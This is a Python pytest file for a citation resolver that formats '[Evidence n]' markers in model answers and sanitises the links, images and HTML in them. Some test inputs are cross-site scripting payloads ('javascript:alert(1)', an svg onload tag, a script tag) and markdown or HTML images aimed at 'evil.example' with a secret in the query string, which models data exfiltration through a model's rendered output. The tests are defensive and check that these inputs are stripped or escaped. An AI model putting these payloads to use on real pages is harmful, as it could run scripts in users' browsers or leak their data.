"""Resolution in each format: citations, removed markers, safe output, and the cases of real people (CITE-*)."""

from __future__ import annotations

from dataclasses import replace

import pytest

from shared.retrieval import (
    MAX_ANSWER_CHARACTERS,
    MAX_CITED_CHARACTERS,
    MAX_SOURCES,
    CitationStream,
    Evidence,
    Format,
    InvalidRequest,
    Source,
    TooLarge,
    check,
    resolve,
)
from tests.citations.support import ANCHOR, FORMATS, LINK, LINKED, PLAIN, SOURCES, codes, live_parts


@pytest.mark.parametrize(
    ("shown_as", "shown"),
    [
        ("html", f"<p>Good {ANCHOR}, in a trust [Trust &lt;page&gt; *x*].</p>\n"),
        ("markdown", rf"Good [Ofsted report](<{LINK}>), in a trust \[Trust &lt;page> \*x\*\]."),
        ("text", f"Good Ofsted report ({LINK}), in a trust [Trust <page> *x*]."),
    ],
)
def test_formats(shown_as: Format, shown: str) -> None:
    result = resolve("Good [Evidence 1], in a trust [Evidence 2].", (LINKED, PLAIN), format=shown_as)

    assert result.answer == shown
    assert result.valid


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        pytest.param("Good [Evidence 9].", "Good.", id="blank before"),
        pytest.param("Good \t [Evidence 9].", "Good.", id="blanks and tabs"),
        pytest.param("Good [Evidence 9] [Evidence 8].", "Good.", id="two"),
        pytest.param("Good\n[Evidence 9]\nMore", "Good\n\nMore", id="line ends stay"),
        pytest.param("Good\u00a0[Evidence 9].", "Good\u00a0.", id="no-break blank stays"),
        pytest.param("[Evidence 9] Good", " Good", id="at the start"),
        pytest.param("Chart ![](x.png) [Evidence 9].", "Chart.", id="beside an image without a text"),
    ],
)
def test_removed_marker_takes_the_blanks_before_it(answer: str, shown: str) -> None:
    assert resolve(answer, SOURCES, format="text").answer == shown


@pytest.mark.parametrize("shown_as", FORMATS)
def test_not_required_means_no_marker_and_no_check(shown_as: Format) -> None:
    result = resolve("Good [Evidence 1] [Evidence 9] [Evidence 1.5].", SOURCES, format=shown_as, required=False)

    assert "Good." in result.answer
    assert result.valid
    assert result.citations == ()
    assert result.uncited == (1, 2, 3)
    assert result.problems == ()


@pytest.mark.parametrize("shown_as", FORMATS)
def test_without_sources_markers_stay_as_written(shown_as: Format) -> None:
    result = resolve("Good [Evidence 1, 2] [Evidence 1.5].", (), format=shown_as)

    assert "Good [Evidence 1, 2] [Evidence 1.5]." in result.answer
    assert result.valid
    assert codes(result) == ["no_sources"]


@pytest.mark.parametrize("shown_as", FORMATS)
def test_number_of_two_sources_stays_as_written(shown_as: Format) -> None:
    shared = (LINKED, PLAIN, Source(number=2, name="Other"))

    result = resolve("Good [Evidence 1], [Evidence 2], [Evidence 1, 2].", shared, format=shown_as)

    assert "[Evidence 2], [Evidence 1, 2]." in result.answer
    assert [(p.code, p.numbers) for p in result.problems] == [("ambiguous_number", (2,)), ("ambiguous_number", (2,))]
    assert result.valid is False
    assert result.uncited == (2,)


def test_link_of_a_source_in_its_normal_form() -> None:
    source = Source(number=1, name="A", link="HTTPS://Files.Example:443/My File (v2).pdf#page=3")

    assert (
        resolve("x [Evidence 1]", [source], format="text").answer
        == "x A (https://files.example/My%20File%20(v2).pdf#page=3)"
    )


@pytest.mark.parametrize(
    "link",
    [
        "JaVaScRiPt:alert(1)",
        "\u0001javascript:alert(1)",
        "java\nscript:alert(1)",
        "data:text/html,x",
        "//evil.example",
        "http://[::1",
        "https://a@b.example/",
        "ftp://a.example/",
        "mailto:a@b.example",
        "reports/r.pdf",
        "",
        "https://",
        "https://a.example/\x00",
        f"https://a.example/{'p' * 5000}",
    ],
)
@pytest.mark.parametrize("shown_as", FORMATS)
def test_link_that_is_none_leaves_the_name(link: str, shown_as: Format) -> None:
    """CITE-08."""
    result = resolve("x [Evidence 1]", [Source(number=1, name="Name", link=link)], format=shown_as)

    assert "[Name" in result.answer
    assert result.citations[0].link is None
    assert live_parts(result.answer, ours=True) == []


@pytest.mark.parametrize(
    ("name", "html"),
    [
        ('"><svg onload=alert(1)>', "[&quot;&gt;&lt;svg onload=alert(1)&gt;]"),
        ("A & B &amp; C", "[A &amp; B &amp;amp; C]"),
        ("line 1\nline 2\ttab", "[line 1 line 2 tab]"),
        ("  padded  ", "[padded]"),
        ("a\u0001b", "[a b]"),
        ("\u202eevil\u2066", "[evil]"),
        ("half \ud83d one", "[half \ufffd one]"),
        ("نص عربي", "[نص عربي]"),
        ("n" * 2000, "[" + "n" * 999 + "…]"),
    ],
)
def test_names_are_shown_as_they_are_and_stay_on_their_line(name: str, html: str) -> None:
    shown = resolve("x [Evidence 1]", [Source(number=1, name=name)]).answer

    assert shown.replace('"', "&quot;") == f"<p>x {html}</p>\n"


CODE = """Use `a[Evidence 1]` [Evidence 1].

```
x = "[Evidence 2]"
```

    indented [Evidence 2]

- ~~~
  [Evidence 2]
  ~~~
"""


@pytest.mark.parametrize("shown_as", ["markdown", "text"])
def test_code_is_untouched_byte_for_byte(shown_as: Format) -> None:
    """CITE-05."""
    result = resolve(CODE, SOURCES, format=shown_as)

    shown = {"markdown": f"[Ofsted report](<{LINK}>)", "text": f"Ofsted report ({LINK})"}[shown_as]
    assert result.answer == CODE.replace("` [Evidence 1]", f"` {shown}")
    assert [citation.count for citation in result.citations] == [1]


def test_code_in_html() -> None:
    result = resolve(CODE, SOURCES)

    assert f"<code>a[Evidence 1]</code> {ANCHOR}" in result.answer
    assert result.answer.count("[Evidence 2]") == 3


@pytest.mark.parametrize(
    ("answer", "text", "notes"),
    [
        ("[see [Evidence 1]](https://evil.example/x)", "see {1}", ["link_removed"]),
        ("[Evidence 1](https://evil.example/x)", "{1}", ["link_removed"]),
        ('[Evidence 1](https://evil.example/x "t")', "{1}", ["link_removed"]),
        ("[Evidence 1]()", "{1}", ["link_removed"]),
        ("[Evidence 1](see the note)", "{1}(see the note)", []),
        ("[[Evidence 1]](https://evil.example)", "{1}", ["link_removed"]),
        ("[Evidence 1][r]", "{1}[r]", []),
        ("【Evidence 1】(2024)", "{1}(2024)", []),
        ("［Evidence 1］(2024)", "{1}(2024)", []),
        ("{1} 【4:0†source】(2024)", "{1}(2024)", ["foreign_marker"]),
        ("{1} [x](https://evil.example) y", "{1} x y", ["link_removed"]),
        ("{1} [x](<https://evil.example/a b>)", "{1} x", ["link_removed"]),
        ("{1} [si[te]](rel 'title')", "{1} si[te]", ["link_removed"]),
        ("{1} [a [b](u) c](v)", "{1} a b c", ["link_removed", "link_removed"]),
        ("{1} <https://evil.example>", "{1} https://evil.example", ["link_removed"]),
        ("{1} ![chart](https://evil.example/c.png?d=SECRET)", "{1} chart", ["image_removed"]),
        ("{1} ![a ![b](u) c](v)", "{1} a b c", ["image_removed", "image_removed"]),
        ("{1} ![x][r]", "{1} x", ["image_removed"]),
        ("{1} ![[Evidence 2]](v)", "{1} [Evidence 2]", ["image_removed"]),
        ("{1} [![c](i.png)](https://a.example)", "{1} c", ["link_removed", "image_removed"]),
        ("{1} <img src=https://evil.example/?q=S>!", "{1} !", ["image_removed"]),
        ('{1} <IMG\nalt="a>b" SRC=x/>!', "{1} !", ["image_removed"]),
        ("{1} Wow![Evidence 1]", "{1} Wow!{1}", []),
    ],
)
def test_links_and_images_of_the_model(answer: str, text: str, notes: list[str]) -> None:
    """CITE-07, CITE-10."""
    shown = f"Ofsted report ({LINK})"

    result = resolve(answer.replace("{1}", "[Evidence 1]"), SOURCES, format="text")

    assert result.answer == text.replace("{1}", shown)
    assert codes(result) == notes
    assert result.valid


@pytest.mark.parametrize("shown_as", FORMATS)
def test_reference_definition_is_shown_as_text(shown_as: Format) -> None:
    result = resolve("Click [here][r] [Evidence 1].\n\n[r]: https://evil.example/?q=S", SOURCES, format=shown_as)

    assert "evil.example/?q=S" in result.answer
    assert codes(result) == ["link_removed"]
    assert live_parts(result.answer, ours=True) == [] if shown_as == "html" else True


@pytest.mark.parametrize(
    ("answer", "html"),
    [
        ("<b onmouseover=1>hi</b> & <3", "<p>&lt;b onmouseover=1&gt;hi&lt;/b&gt; &amp; &lt;3</p>\n"),
        ("<script>alert(1)</script>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n"),
        ("a &amp; b &lt;i&gt;", "<p>a &amp; b &lt;i&gt;</p>\n"),
        ("<div>\n*x*\n</div>", "<p>&lt;div&gt;\n<em>x</em>\n&lt;/div&gt;</p>\n"),
        ("a\x00b", "<p>a\ufffdb</p>\n"),
        ("a\u00a0b", "<p>a\u00a0b</p>\n"),
        ("\ud83d", "<p>\ufffd</p>\n"),
    ],
)
def test_html_of_the_answer_is_shown_as_text(answer: str, html: str) -> None:
    """CITE-09."""
    assert resolve(answer, SOURCES).answer == html


def test_html_is_noted_where_it_was_escaped() -> None:
    answer = "<b>[Evidence 1]</b>"

    assert codes(resolve(answer, SOURCES)) == ["html_escaped", "html_escaped"]
    assert codes(resolve(answer, SOURCES, format="text")) == []


@pytest.mark.parametrize("address", ["https://ok.example/a", "HTTPS://OK.example/a", "https://ok.example:8443/a"])
def test_links_to_allowed_hosts_stay(address: str) -> None:
    shown = resolve(f"[site]({address}) [Evidence 1]", SOURCES, allowed_hosts=["OK.example"]).answer

    assert shown.startswith('<p><a href="https://ok.example')
    assert 'rel="noopener noreferrer">site</a>' in shown


def test_link_that_is_a_source_s_stays() -> None:
    shown = resolve(f"[site]({LINK.replace('https', 'HTTPS')}) and [x](https://reports.example.gov.uk/r/2)", SOURCES).answer

    assert shown == f'<p><a href="{LINK}" rel="noopener noreferrer">site</a> and x</p>\n'


@pytest.mark.parametrize("inside", ["[Evidence 1]", "[x](https://ok.example)", "<https://ok.example>"])
def test_no_anchor_inside_an_anchor(inside: str) -> None:
    shown = resolve(f"[see {inside}](https://ok.example/out)", SOURCES, allowed_hosts=["ok.example"]).answer

    assert shown.count("<a ") == 1
    assert "ok.example/out" not in shown


def test_tables_and_lists() -> None:
    answer = "| a | b |\n|---|:-:|\n| x [Evidence 1] | y |\n\n3. c\n4. d\n   - e\n"

    html = resolve(answer, SOURCES).answer

    assert f"<td>x {ANCHOR}</td>\n" in html
    assert '<td align="center">y</td>' in html
    assert html.endswith(
        '<ol start="3">\n<li>\n<p>c</p>\n</li>\n<li>\n<p>d</p>\n<ul>\n<li>\n<p>e</p>\n</li>\n</ul>\n</li>\n</ol>\n'
    )


def test_hostile_table_does_not_grow_without_bound() -> None:
    wide = "|a" * 60 + "|\n" + "|-" * 60 + "|\n" + "a\n" * 20_000

    assert len(resolve(wide, SOURCES).answer) < 20 * len(wide)


@pytest.mark.parametrize("answer", ["> " * 5_000 + "x", "1. " * 5_000 + "x", "![a" * 5_000 + "](u)" * 5_000])
@pytest.mark.parametrize("shown_as", FORMATS)
def test_depth_is_no_trouble(answer: str, shown_as: Format) -> None:
    assert resolve(answer, SOURCES, format=shown_as).answer


def test_problems_beyond_a_hundred_are_counted() -> None:
    result = resolve("[Evidence 9] " * 150, SOURCES)

    assert len(result.problems) == 100
    assert result.more_problems == 50


def test_evidence_gives_its_sources() -> None:
    assert resolve("x [Evidence 1]", Evidence(text="", sources=(PLAIN,)), format="text").valid is False
    assert resolve("x [Evidence 2]", Evidence(text="", sources=(PLAIN,)), format="text").valid


def test_thousand_sources_and_one_more() -> None:
    sources = [Source(number=n, name=f"S{n}") for n in range(1, MAX_SOURCES + 1)]

    assert resolve("x [Evidence 1000]", sources, format="text").answer == "x [S1000]"
    with pytest.raises(InvalidRequest, match="At most 1000 sources") as error:
        resolve("x", [*sources, PLAIN])
    assert error.value.code == "too_many_sources"


def test_source_without_number_or_name() -> None:
    with pytest.raises(InvalidRequest, match="number of 1 or more and a name") as error:
        check("x", [LINKED, Source(number=0, name="A"), Source(number=2, name=" \u202e")])

    assert error.value.code == "invalid_source"
    assert [(p.path, p.code) for p in error.value.problems] == [
        ("$.sources[1].number", "out_of_range"),
        ("$.sources[2].name", "blank"),
    ]


def test_answer_over_the_limit() -> None:
    with pytest.raises(TooLarge, match="limit of 500000 characters") as error:
        resolve("x" * (MAX_ANSWER_CHARACTERS + 1), SOURCES)

    assert error.value.code == "too_large"


def test_citations_over_the_limit() -> None:
    """A looping model: each marker stands for fifty long names, in a stream and in a state just as in a whole answer."""
    sources = [Source(number=n, name="n" * 1_000, link="https://example.org/" + "l" * 3_000) for n in range(1, 51)]
    paragraph = "Good [Evidence 1-50].\n\n"
    most = MAX_CITED_CHARACTERS // (50 * 4_020)

    assert resolve(paragraph * most, sources, format="text").citations[0].count == most
    stream = CitationStream(sources, format="text")
    stream.feed(paragraph * most)
    again = CitationStream(sources, format="text", state=stream.state)
    for call in (
        lambda: resolve(paragraph * (most + 1), sources),
        lambda: resolve(f"{paragraph}`" * (most + 1), sources),
        lambda: check(paragraph * (most + 1), sources),
        lambda: again.feed(paragraph, final=True),
    ):
        with pytest.raises(TooLarge, match="citations of the answer are over the limit of 20000000 characters") as error:
            call()
        assert error.value.code == "too_large"


@pytest.mark.parametrize(
    ("answer", "html"),
    [
        ("Good **[Evidence 9]** and", "<p>Good **** and</p>\n"),
        ("*[Evidence 9]*well*", "<p>**well*</p>\n"),
        ("a __[Evidence 9]__", "<p>a ____</p>\n"),
        ("**well [Evidence 9]** and", "<p><strong>well</strong> and</p>\n"),
    ],
)
def test_removed_marker_leaves_the_signs_around_it_as_text(answer: str, html: str) -> None:
    assert resolve(answer, SOURCES).answer == html


def test_unknown_format() -> None:
    with pytest.raises(InvalidRequest, match="html, markdown and text") as error:
        resolve("x", SOURCES, format="pdf")  # type: ignore[arg-type]

    assert error.value.code == "unknown_format"


@pytest.mark.parametrize(
    ("answer", "prompt"),
    [
        ("x", "Cite the evidence each point relies on as [Evidence n]."),
        ("x [Evidence 9] [Evidence 8]", "[Evidence 8], [Evidence 9] do not exist; cite only [Evidence 1] to [Evidence 3]."),
        ("x [Evidence 9]", "[Evidence 9] does not exist; cite only [Evidence 1] to [Evidence 3]."),
        (
            "x [Evidence 1.5](https://evil.example) <b>",
            "Write each citation as [Evidence n] with one whole number, or as [Evidence 1, 2]. "
            "Cite the evidence each point relies on as [Evidence n].",
        ),
    ],
)
def test_retry_prompt(answer: str, prompt: str) -> None:
    assert check(answer, SOURCES).retry_prompt == prompt


def test_retry_prompt_names_numbers_of_several_sources() -> None:
    """It offers none of them."""
    shared = [*SOURCES, replace(PLAIN, name="Other")]

    assert check("[Evidence 1] [Evidence 2, 9]", shared).retry_prompt == (
        "[Evidence 9] does not exist; cite only [Evidence 1], [Evidence 3]. "
        "[Evidence 2] does not stand for one source; cite only [Evidence 1], [Evidence 3]."
    )
    assert check("[Evidence 2]", [PLAIN, PLAIN]).retry_prompt == "[Evidence 2] does not stand for one source."


def test_retry_prompt_counts_references_as_the_model_does() -> None:
    answer = "[ref_id:7] [Evidence 0] [ref_id:1.5]"

    assert check(answer, SOURCES, references=True).retry_prompt == (
        "[Evidence 0], [ref_id:7] do not exist; cite only [ref_id:0] to [ref_id:2]. "
        "Write each citation as [ref_id:n] with one whole number, or as [ref_id:1, 2]."
    )
    assert check("x", SOURCES, references=True).retry_prompt == "Cite the evidence each point relies on as [ref_id:n]."


def test_retry_prompt_names_few_numbers() -> None:
    sources = [Source(number=n, name="S") for n in range(1, 100, 2)]

    prompt = check("[Evidence 2] [Evidence 4-20]", sources).retry_prompt or ""

    assert prompt.endswith(
        "cite only [Evidence 1], [Evidence 3], [Evidence 5], [Evidence 7], [Evidence 9], [Evidence 11], "
        "[Evidence 13], [Evidence 15] and others."
    )
    assert len(prompt) < 400
